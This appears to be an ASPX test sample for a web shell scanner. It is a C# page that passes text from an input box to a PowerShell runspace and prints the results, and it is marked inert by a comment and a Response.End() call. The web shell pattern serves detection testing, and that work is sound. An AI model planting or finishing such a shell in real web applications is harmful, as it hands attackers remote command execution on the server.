<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management.Automation" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<script runat="server">
void Exec_Click(object s, EventArgs e) {
  Runspace rs = RunspaceFactory.CreateRunspace(); rs.Open();
  Pipeline pl = rs.CreatePipeline(); pl.Commands.AddScript(console.Text);
  foreach (PSObject o in pl.Invoke()) { output.Text += o.ToString(); }
}
</script>
